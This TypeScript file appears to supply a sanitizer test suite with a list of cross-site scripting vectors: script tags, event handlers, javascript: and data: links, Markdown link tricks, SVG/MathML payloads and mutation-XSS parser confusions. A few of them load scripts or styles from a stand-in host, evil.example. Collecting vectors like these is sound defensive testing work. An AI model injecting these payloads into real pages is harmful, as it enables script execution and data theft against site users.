/** Markdown and HTML that would run `alert` in a careless page. */
const zero = String.fromCharCode(0)

export const vectors: readonly string[] = [
  // Elements that run.
  '<script>alert(1)</script>', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>', '<script\x0c>alert(1)</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)', '<<script>alert(1);//<</script>', '<script/x>alert(1)</script>', `<scr${zero}ipt>alert(1)</scr${zero}ipt>`, '<script type=module>alert(1)</script>',
  // Handlers.
  '<img src=x onerror=alert(1)>', '<IMG SRC=x OnErRoR="alert(1)">', '<img src=x onerror=alert(1)//', '<img/src=x/onerror=alert(1)>', '<img src="x`" `onerror=alert(1)>',
  '<img """><script>alert(1)</script>">', '<body onload=alert(1)>', '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>', '<details open ontoggle=alert(1)>x</details>',
  '<details open><summary onclick=alert(1)>x</summary></details>', '<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>', '<textarea autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>', '<a href="https://a.example" onmouseover=alert(1)>x</a>', '<p style="animation:x" onanimationstart=alert(1)>x', '<div onpointerrawupdate=alert(1)>x</div>',
  '<a onclick=alert(1) href=#>x</a>', '<td onclick=alert(1)>x', '<b onfocus=alert(1) tabindex=1 autofocus id=x>x</b>',
  // Addresses.
  '<a href="javascript:alert(1)">x</a>', '<a href="jAvAsCrIpT:alert(1)">x</a>', '<a href=" &#14; javascript:alert(1)">x</a>', '<a href="java\tscript:alert(1)">x</a>', '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>', '<a href="javascript&colon;alert(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', '<a href="vbscript:alert(1)">x</a>', '<a href="blob:https://a.example/1">x</a>', '<a href="//evil.example/">x</a>', '<a href="file:///etc/passwd">x</a>',
  '<a href="https://a.example" target=_blank ping=https://evil.example rel=opener>x</a>', '<a href="\x01javascript:alert(1)">x</a>', `<a href="java${zero}script:alert(1)">x</a>`,
  // Links of Markdown.
  '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](javascript&#58;alert(1))', '[x](<javascript:alert(1)>)', '[x](java\nscript:alert(1))', '[x](data:text/html,<script>alert(1)</script>)', '[x]: javascript:alert(1)\n\n[x]',
  '![x](javascript:alert(1))', '![x](x"onerror="alert(1))', '![x"onerror="alert(1)](https://a.example/x.png)', '[x](https://a.example "x\\" onmouseover=alert(1) \\"")', '<javascript:alert(1)>', '[x](vbscript:alert(1))', '[<img src=x onerror=alert(1)>](https://a.example)',
  '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29)', '[x](\\javascript:alert(1))', '`<script>alert(1)</script>` <script>alert(1)</script>', '```html"><script>alert(1)</script>\nx\n```', '|<img src=x onerror=alert(1)>|\n|-|\n|<script>alert(1)</script>|',
  '[x](https://a.example/"onclick="alert(1))', 'https://a.example/"onclick="alert(1)', '<https://a.example/"onclick="alert(1)>', '# <svg onload=alert(1)>', '- [ ] <img src=x onerror=alert(1)>',
  // Documents in documents, forms, styles.
  '<iframe src=javascript:alert(1)></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data=javascript:alert(1)></object>', '<embed src=javascript:alert(1)>', '<frameset onload=alert(1)>', '<portal src=javascript:alert(1)>',
  '<form action=javascript:alert(1)><button>x</button></form>', '<button formaction=javascript:alert(1)>x</button>', '<isindex action=javascript:alert(1) type=submit>', '<base href="javascript:alert(1)//">', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href=https://evil.example/x.css>', '<style>*{background:url(https://evil.example)}</style>', '<div style="background:url(https://evil.example)">x</div>', '<style><img src="</style><img src=x onerror=alert(1)>">', '<template><script>alert(1)</script></template>', '<table background=https://evil.example>',
  // SVG and MathML.
  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">', '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>', '<math href="javascript:alert(1)">x</math>', '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>', '<svg><set attributeName=href to=javascript:alert(1)>',
  // What changes its meaning when it is parsed again.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', '<title><p title="</title><img src=x onerror=alert(1)>">', '<textarea><p title="</textarea><img src=x onerror=alert(1)>">', '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->', '<!-- --!><img src=x onerror=alert(1)> -->', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml version="1.0"?><img src=x onerror=alert(1)>', '<!doctype x [<!ENTITY y "<script>alert(1)</script>">]>&y;', '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>', '<select><template><img src=x onerror=alert(1)></template></select>',
  '<details><details><summary><a href="javascript:alert(1)"><script>alert(1)', '</article></body></html><script>alert(1)</script>', '</title><script>alert(1)</script>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '\u2028<script>alert(1)</script>', '<a title="><script>alert(1)</script>" href=x>x', '<a href=\'x\' title=\'"><img src=x onerror=alert(1)>\'>x</a>',
  '<p/onclick=alert(1)>x', '<x onclick=alert(1)>x</x>', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>', '<ol start="1" onclick=alert(1)><li>x</ol>', '<td colspan="2&quot; onclick=alert(1)">x',
]
